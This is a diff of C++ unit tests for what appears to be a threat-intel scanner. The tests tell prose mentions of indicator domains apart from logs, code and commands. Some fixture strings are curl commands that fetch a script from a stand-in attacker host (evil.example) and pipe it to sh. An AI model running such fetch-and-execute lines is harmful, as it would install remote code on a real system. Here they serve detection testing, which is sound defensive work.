@@ -183,11 +183,13 @@ TEST(IntelContext, CollectionThresholdCountsHashValues) {
   ApplyIntelContext(f, {Bytes(text), "notes.md", "/home/a/notes.md", ""}, known, {});
   ASSERT_EQ(f.reasons.size(), 1u) << "2 C2 + 2 hash values reach the threshold of 4";
   EXPECT_EQ(f.reasons[0].name, "context.indicator_list");
-  // Three in all: below the threshold, the reasons stay.
+  // Three in all: below the threshold, the reasons stay (in a line that is
+  // not a sentence: a sentence is a mention, see below).
+  const std::string row = "a.example,b.example," + h1 + "," + h2 + "\n";
   Finding g;
   g.reasons = {C2("a.example"), C2("b.example")};
   auto one = [&](const std::string& h) { return h == h1; };
-  ApplyIntelContext(g, {Bytes(text), "notes.md", "/home/a/notes.md", ""}, one, {});
+  ApplyIntelContext(g, {Bytes(row), "seen.txt", "/home/a/seen.txt", ""}, one, {});
   EXPECT_EQ(Positive(g), 2);
 }
 
@@ -246,6 +248,65 @@ TEST(IntelContext, KeywordsCountOnlyInActivityRecords) {
   ApplyIntelContext(log, {Bytes(text), "access.log", "/var/log/access.log", ""}, none, {});
   ASSERT_EQ(log.reasons.size(), 1u);
   EXPECT_EQ(log.reasons[0].score, 70);
+}
+
+TEST(IntelContext, ProseLines) {
+  // Notes, reports and documentation.
+  for (const char* l : {
+           "Blocked evil.example at the proxy on Monday; no host contacted it after the update.",
+           "> - `rules/iocs/c2.txt` 55: 28 actor domains, 23 URLs (GitHub IconStorages icons, "
+           "evil.example,",
+           ">   evil.example paths…), 4 ESET IPs (2 OpenDrive at 40); not the community IPs, not "
+           "raw.example /",
+           "3. The stage two payload was fetched from evil.example by the updater on both hosts.",
+           "## Why evil.example matters to the people who run the build servers",
+       })
+    EXPECT_TRUE(IsProseLine(l)) << l;
+  // Logs, commands, code, configuration, and too few words.
+  for (const char* l : {
+           "2023-03-29 10:11:12 connection established to evil.example for the update check now",
+           "10.0.0.5 fetched the next stage of the app from evil.example in the morning today",
+           "1679999999 the client fetched the next stage of the app from evil.example today",
+           "Mar 29 10:11:12 host updater[42]: fetching the next stage from evil.example today",
+           "[INFO] the client connected to evil.example and downloaded the next stage of it",
+           "client connected at 10:11:12 to evil.example and downloaded the next stage of it",
+           "curl -s https://evil.example/x | sh  # fetch the update from the cloud service now",
+           "requests.get('https://evil.example/x')  # download the next stage from the server",
+           "<a href=\"https://evil.example\">Download the latest version of the app here</a>",
+           "server = evil.example  ; the server the client talks to for all of its updates",
+           "evil.example 443 tcp",
+           "c2: evil.example",
+       })
+    EXPECT_FALSE(IsProseLine(l)) << l;
+}
+
+TEST(IntelContext, IndicatorsMentionedOnlyInSentencesAreANotice) {
+  auto none = [](const std::string&) { return false; };
+  std::string notes =
+      "# 3CX cleanup\n\nThe updater on the build host fetched evil.example and bad.example in March.\n"
+      "Both evil.example and bad.example are blocked at the proxy since the vendor's warning.\n";
+  Finding f;
+  f.reasons = {C2("evil.example"), C2("bad.example")};
+  ApplyIntelContext(f, {Bytes(notes), "notes.md", "/home/a/notes.md", ""}, none, {});
+  EXPECT_EQ(Positive(f), 1);
+  const Reason& m = f.reasons.back();
+  EXPECT_EQ(m.name, "context.prose_mention");
+  EXPECT_EQ(m.score, ContextOptions{}.mention_score);
+  EXPECT_EQ(f.reasons[0].score, 0);
+  // Near misses: the same sentences plus one use in code keep that
+  // indicator; the same sentences in a mail store or a log stay traces.
+  Finding g;
+  g.reasons = {C2("evil.example"), C2("bad.example")};
+  std::string script = notes + "curl -s https://evil.example/stage2 | sh\n";
+  ApplyIntelContext(g, {Bytes(script), "notes.md", "/home/a/notes.md", ""}, none, {});
+  EXPECT_EQ(g.reasons[0].score, 100);
+  EXPECT_EQ(g.reasons[1].score, 0);
+  for (const char* name : {"message.eml", "mbox", "update.log"}) {
+    Finding h;
+    h.reasons = {C2("evil.example"), C2("bad.example")};
+    ApplyIntelContext(h, {Bytes(notes), name, std::string("/home/a/") + name, ""}, none, {});
+    EXPECT_EQ(Positive(h), 2) << name;
+  }
 }
 
 TEST(IntelContext, DisabledChangesNothing) {
